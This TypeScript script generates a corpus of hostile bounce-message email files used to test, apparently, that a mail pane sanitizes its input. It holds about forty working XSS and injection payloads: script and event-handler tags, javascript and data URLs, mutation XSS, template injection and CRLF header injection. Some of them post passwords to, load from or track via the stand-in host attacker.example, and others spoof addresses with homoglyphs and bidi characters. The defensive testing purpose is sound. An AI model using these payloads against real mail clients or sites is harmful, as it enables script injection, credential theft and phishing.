/**
 * Writes the hostile corpus (test/fixtures/hostile-generated/*.eml): real NDR shapes — Exchange
 * legacy and enhanced, RFC 3464 multipart/report, Postfix text — with an injection vector in every
 * field the pane and the admin mail show (diagnostic code, recipient name and address, subject, also
 * RFC 2047-encoded, Remote-MTA, Reporting-MTA, original headers, human-readable text, HTML part).
 * Deterministic: the same files every run. `npx tsx scripts/makeHostile.ts`
 *
 * Every script vector tries to set `window.__PWNED__`; the browser test (test/browser/hostile.test.ts)
 * fails when one does.
 */
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const OUT = path.join(__dirname, '..', 'test', 'fixtures', 'hostile-generated');
const PWN = 'window.__PWNED__=1';

interface Vector {
  readonly slug: string;
  /** What the file is about, in words (goes first in the Subject). */
  readonly title: string;
  readonly payload: string;
  /** Recipient address to use (homoglyphs, zero-width…); default jan@fabrikam.example. */
  readonly address?: string;
  /** Encode the payload in the Subject as an RFC 2047 encoded word. */
  readonly encodedSubject?: 'B' | 'Q';
}

const LONG = 'A'.repeat(100 * 1024);

const VECTORS: readonly Vector[] = [
  { slug: 'script-tag', title: 'script tag', payload: `<script>${PWN}</script>` },
  { slug: 'img-onerror', title: 'img onerror', payload: `<img src=x onerror="${PWN}">` },
  { slug: 'svg-onload', title: 'svg onload', payload: `<svg onload="${PWN}"><circle r="9"/></svg>` },
  { slug: 'svg-script', title: 'script inside svg', payload: `<svg><script>${PWN}</script></svg>` },
  {
    slug: 'iframe-javascript',
    title: 'iframe javascript src',
    payload: `<iframe src="javascript:top.__PWNED__=1"></iframe>`,
  },
  {
    slug: 'iframe-srcdoc',
    title: 'iframe srcdoc',
    payload: `<iframe srcdoc="<script>parent.__PWNED__=1</script>"></iframe>`,
  },
  {
    slug: 'javascript-link',
    title: 'javascript link',
    payload: `<a href="javascript:${PWN}">click here to release your messages</a>`,
  },
  {
    slug: 'entity-javascript-link',
    title: 'entity-encoded javascript link',
    payload: `<a href="&#106;avascript&#58;${PWN}">Review messages</a>`,
  },
  {
    slug: 'data-url-link',
    title: 'data URL link',
    payload: '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19QV05FRF9fPTE8L3NjcmlwdD4=">Release</a>',
  },
  {
    slug: 'data-url-image',
    title: 'data URL svg image',
    payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX1BXTkVEX189MSIvPg==">',
  },
  { slug: 'body-onload', title: 'body onload', payload: `<body onload="${PWN}">` },
  {
    slug: 'css-import',
    title: 'CSS import and url',
    payload:
      '<style>@import url(https://attacker.example/x.css);body{background:url(https://attacker.example/b.png)}</style>',
  },
  {
    slug: 'css-expression',
    title: 'CSS expression in style attribute',
    payload: `<div style="width:expression(${PWN});background:url(javascript:${PWN})">x</div>`,
  },
  {
    slug: 'link-stylesheet',
    title: 'link stylesheet',
    payload: '<link rel="stylesheet" href="https://attacker.example/x.css">',
  },
  {
    slug: 'object-embed',
    title: 'object and embed',
    payload: `<object data="javascript:${PWN}"></object><embed src="data:text/html,<script>parent.__PWNED__=1</script>">`,
  },
  {
    slug: 'mxss-math',
    title: 'mutation XSS through math and style',
    payload: `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  },
  { slug: 'attribute-breakout', title: 'attribute breakout', payload: `"><img src=x onerror=${PWN}>` },
  {
    slug: 'single-quote-breakout',
    title: 'single-quote handler breakout',
    payload: `' onmouseover='${PWN}' x='`,
  },
  {
    slug: 'bare-javascript-url',
    title: 'bare javascript URL',
    payload: `javascript:${PWN}//https://learn.microsoft.com/`,
  },
  {
    slug: 'meta-refresh',
    title: 'meta refresh',
    payload: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
  },
  { slug: 'base-href', title: 'base href', payload: '<base href="https://attacker.example/">' },
  {
    slug: 'form-password',
    title: 'password form',
    payload:
      '<form action="https://attacker.example/"><input type="password" name="p"><button>Sign in</button></form>',
  },
  {
    slug: 'template-braces',
    title: 'template braces',
    payload: "{{constructor.constructor('window.__PWNED__=1')()}}",
  },
  {
    slug: 'template-literal',
    title: 'template literal',
    payload: '${window.__PWNED__=1}`${alert(1)}`<%= window.__PWNED__=1 %>',
  },
  {
    slug: 'noscript-breakout',
    title: 'noscript breakout',
    payload: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  },
  {
    slug: 'details-ontoggle',
    title: 'details ontoggle',
    payload: `<details open ontoggle="${PWN}"><summary>x</summary></details>`,
  },
  { slug: 'autofocus-onfocus', title: 'autofocus onfocus', payload: `<input autofocus onfocus="${PWN}">` },
  {
    slug: 'video-source-onerror',
    title: 'video source onerror',
    payload: `<video><source onerror="${PWN}"></video>`,
  },
  {
    slug: 'tracking-pixel',
    title: 'tracking pixel',
    payload: '<img src="https://attacker.example/track.png" width="1" height="1">',
  },
  {
    slug: 'rtl-override',
    title: 'right-to-left override',
    payload: 'invoice\u202Efdp.exe \u2066admin\u2069 \u202Ecod.lmth',
  },
  {
    slug: 'zero-width',
    title: 'zero-width characters in the address',
    payload: 'p\u200Baypal \u200C\u200D\uFEFF\u2060support',
    address: 'jan\u200B@fab\u200Crikam.example',
  },
  {
    slug: 'homoglyph-domain',
    title: 'homoglyph address with Cyrillic a',
    payload: 'Sign in at micr\u043Esoft.com to release your messages',
    address: 'jan@f\u0430brikam.example',
  },
  { slug: 'long-line', title: '100 KB single line', payload: `<script>${PWN}</script>${LONG}` },
  { slug: 'long-tags', title: '100 KB of tags', payload: `<b onclick="${PWN}">`.repeat(3000) },
  {
    slug: 'html-in-diagnostic',
    title: 'HTML in the diagnostic code',
    payload: `<b onmouseover="${PWN}">User unknown</b><a href="https://attacker.example/">details</a>`,
  },
  {
    slug: 'entities',
    title: 'pre-escaped entities',
    payload: `&lt;script&gt;${PWN}&lt;/script&gt; &amp;lt;img&amp;gt;`,
  },
  {
    slug: 'phishing-release',
    title: 'phishing release link',
    payload: 'Click here to release your messages: https://attacker.example/release?u=jan',
  },
  {
    slug: 'mailto-injection',
    title: 'mailto injection',
    payload: '<a href="mailto:attacker@attacker.example?body=password">Contact IT</a>',
  },
  {
    slug: 'controls',
    title: 'NUL and control characters',
    payload: `a\u0000b\u0007c\u001bd\u007f<script>${PWN}</script>`,
  },
  {
    slug: 'rfc2047-base64-subject',
    title: 'base64 encoded-word script',
    payload: `<script>${PWN}</script>`,
    encodedSubject: 'B',
  },
  {
    slug: 'rfc2047-crlf-subject',
    title: 'encoded-word with line breaks',
    payload: 'Quote\r\nBcc: attacker@attacker.example\r\n\r\n<svg onload=alert(1)>',
    encodedSubject: 'Q',
  },
  {
    slug: 'unicode-tags',
    title: 'Unicode tag characters and bidi isolates',
    payload: '\u{E0041}\u{E0042}\u2067hidden\u2069\u200Eok',
  },
];

type Shape = 'exchange-legacy' | 'exchange-enhanced' | 'rfc3464' | 'postfix';
const SHAPES: readonly Shape[] = ['exchange-legacy', 'exchange-enhanced', 'rfc3464', 'postfix'];

function encodedWord(text: string, how: 'B' | 'Q'): string {
  const bytes = Buffer.from(text, 'utf8');
  if (how === 'B') return `=?UTF-8?B?${bytes.toString('base64')}?=`;
  const q = [...bytes].map((b) =>
    /[A-Za-z0-9]/.test(String.fromCharCode(b))
      ? String.fromCharCode(b)
      : `=${b.toString(16).toUpperCase().padStart(2, '0')}`,
  );
  return `=?UTF-8?Q?${q.join('')}?=`;
}

/** Quoted-printable (soft line breaks at 76), so 100 KB payloads stay valid MIME in the HTML part. */
function qp(text: string): string {
  const encoded = [...Buffer.from(text, 'utf8')]
    .map((b) =>
      b === 0x0a
        ? '\n'
        : b === 0x3d || b < 0x20 || b > 0x7e
          ? `=${b.toString(16).toUpperCase().padStart(2, '0')}`
          : String.fromCharCode(b),
    )
    .join('');
  return encoded
    .split('\n')
    .map((line) => line.match(/.{1,73}(?:=[0-9A-F]{2})?|.+/g)?.join('=\n') ?? '')
    .join('\n');
}

/** A header value cannot hold raw line breaks; everything else of the payload stays. */
const oneLine = (s: string): string => s.replace(/[\r\n]+/g, ' ');

function build(vector: Vector, index: number, shape: Shape): string {
  const n = String(index + 1).padStart(2, '0');
  const p = vector.payload;
  const address = vector.address ?? 'jan@fabrikam.example';
  const name = oneLine(p).slice(0, 2000);
  const subjectPayload = vector.encodedSubject ? encodedWord(p, vector.encodedSubject) : oneLine(p);
  const subject = `Undeliverable: hostile ${n} ${vector.title} (${shape}) ${subjectPayload}`;
  const status = ['5.1.1', '5.4.1', '5.2.2', '5.7.1'][index % 4] as string;
  const reply = '550';
  const diag = `${reply} ${status} ${oneLine(p)} Recipient address rejected`;
  const remote = `mx.fabrikam.example ${oneLine(p).slice(0, 500)}`;
  const reporting = `EX01.contoso.example ${oneLine(p).slice(0, 500)}`;
  const boundary = `hostile-${n}-outer`;
  const alt = `hostile-${n}-alt`;
  const originalHeaders = [
    'From: Alex Wilber <alex@contoso.example>',
    `To: "${name}" <${address}>`,
    `Subject: ${oneLine(p)}`,
    `Message-ID: <${n}.${vector.slug}@contoso.example>`,
    'Date: Tue, 3 Nov 2026 09:11:52 +0000',
    `X-Hostile: ${oneLine(p)}`,
  ].join('\n');
  const head = [
    `Subject: ${subject}`,
    'From: Microsoft Outlook <postmaster@contoso.example>',
    'To: Alex Wilber <alex@contoso.example>',
    'Date: Tue, 3 Nov 2026 09:12:05 +0000',
    `Message-ID: <ndr-${n}@contoso.example>`,
    'MIME-Version: 1.0',
  ];

  if (shape === 'postfix') {
    return [
      ...head.map((h) =>
        h.replace(
          'Microsoft Outlook <postmaster@contoso.example>',
          'MAILER-DAEMON@mail.contoso.example (Mail Delivery System)',
        ),
      ),
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      `This is the mail system at host ${oneLine(reporting)}.`,
      '',
      "I'm sorry to have to inform you that your message could not",
      "be delivered to one or more recipients. It's attached below.",
      '',
      p,
      '',
      '                   The mail system',
      '',
      `<${address}> (${name}): host ${oneLine(remote)}[192.0.2.25] said: ${diag} (in reply to RCPT TO command)`,
      '',
      '--- Original message headers follow ---',
      '',
      originalHeaders,
      '',
    ].join('\n');
  }

  const deliveryStatus = [
    'Content-Type: message/delivery-status',
    '',
    `Reporting-MTA: dns;${reporting}`,
    'Arrival-Date: Tue, 3 Nov 2026 09:11:52 +0000',
    '',
    `Final-Recipient: rfc822;${address}`,
    'Action: failed',
    `Status: ${status}`,
    `Diagnostic-Code: smtp;${diag}`,
    `Remote-MTA: dns;${remote}`,
    `X-Display-Name: ${name}`,
    '',
  ].join('\n');
  const original = [
    'Content-Type: message/rfc822',
    '',
    originalHeaders,
    '',
    `Body: ${p.slice(0, 5000)}`,
    '',
  ].join('\n');

  let human: string;
  let html: string;
  if (shape === 'exchange-legacy') {
    human = [
      'Delivery has failed to these recipients or groups:',
      '',
      `${name} (${address})<mailto:${address}>`,
      `Your message wasn't delivered. ${p}`,
      '',
      'Diagnostic information for administrators:',
      '',
      `Generating server: ${reporting}`,
      '',
      address,
      remote,
      `Remote Server returned '${diag}'`,
      '',
      'Original message headers:',
      '',
      originalHeaders,
    ].join('\n');
    html = `<html><head>${p}</head><body ${vector.slug === 'body-onload' ? `onload="${PWN}"` : ''}><p><b>Delivery has failed to these recipients or groups:</b></p><p><a href="mailto:${address}">${p}</a></p><p>${p}</p><p>Remote Server returned '${diag}'</p><pre>${originalHeaders}</pre></body></html>`;
  } else {
    human = [
      `Your message to ${address} couldn't be delivered.`,
      '',
      `${name} wasn't found at fabrikam.example.`,
      '',
      'Action Required',
      '',
      'How to Fix It',
      p,
      '',
      'More Info for Email Admins',
      `Status code: ${reply} ${status}`,
      p,
      '',
      'Original Message Details',
      `Subject: ${oneLine(p)}`,
      '',
      'Error Details',
      `Error: ${diag}`,
      `Message rejected by: ${remote}`,
      '',
      'Notification Details',
      `Sent by: ${reporting}`,
      '',
      'Original Message Headers',
      '',
      originalHeaders,
    ].join('\n');
    html = `<html><head><style>@import url(https://attacker.example/s.css);</style></head><body><table><tr><td>Your message to ${address} couldn't be delivered.</td></tr><tr><td>${p}</td></tr><tr><td><a href="javascript:${PWN}">click here to release your messages</a></td></tr><tr><td>Error: ${diag}</td></tr></table><svg onload="${PWN}"></svg></body></html>`;
  }
  const textPart = [
    'Content-Type: text/plain; charset="utf-8"',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    qp(human),
    '',
  ].join('\n');
  const htmlPart = [
    'Content-Type: text/html; charset="utf-8"',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    qp(html),
    '',
  ].join('\n');

  const exchangeHeaders =
    shape === 'rfc3464' ? [] : ['X-MS-Exchange-Message-Is-Ndr:', 'Auto-Submitted: auto-replied'];
  const firstPart =
    shape === 'rfc3464'
      ? textPart
      : [
          `Content-Type: multipart/alternative; boundary="${alt}"`,
          '',
          `--${alt}`,
          textPart,
          `--${alt}`,
          htmlPart,
          `--${alt}--`,
          '',
        ].join('\n');
  return [
    ...head,
    ...exchangeHeaders,
    `Thread-Topic: ${oneLine(p).slice(0, 1000)}`,
    `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    firstPart,
    `--${boundary}`,
    deliveryStatus,
    `--${boundary}`,
    original,
    `--${boundary}--`,
    '',
  ].join('\n');
}

function main(): void {
  mkdirSync(OUT, { recursive: true });
  for (const name of readdirSync(OUT)) if (name.endsWith('.eml')) rmSync(path.join(OUT, name));
  VECTORS.forEach((vector, i) => {
    const shape = SHAPES[i % SHAPES.length] as Shape;
    const file = `hostile-${String(i + 1).padStart(2, '0')}-${vector.slug}-${shape}.eml`;
    writeFileSync(path.join(OUT, file), build(vector, i, shape));
  });
  console.log(`wrote ${VECTORS.length} hostile NDRs to ${path.relative(process.cwd(), OUT)}`);
}

main();
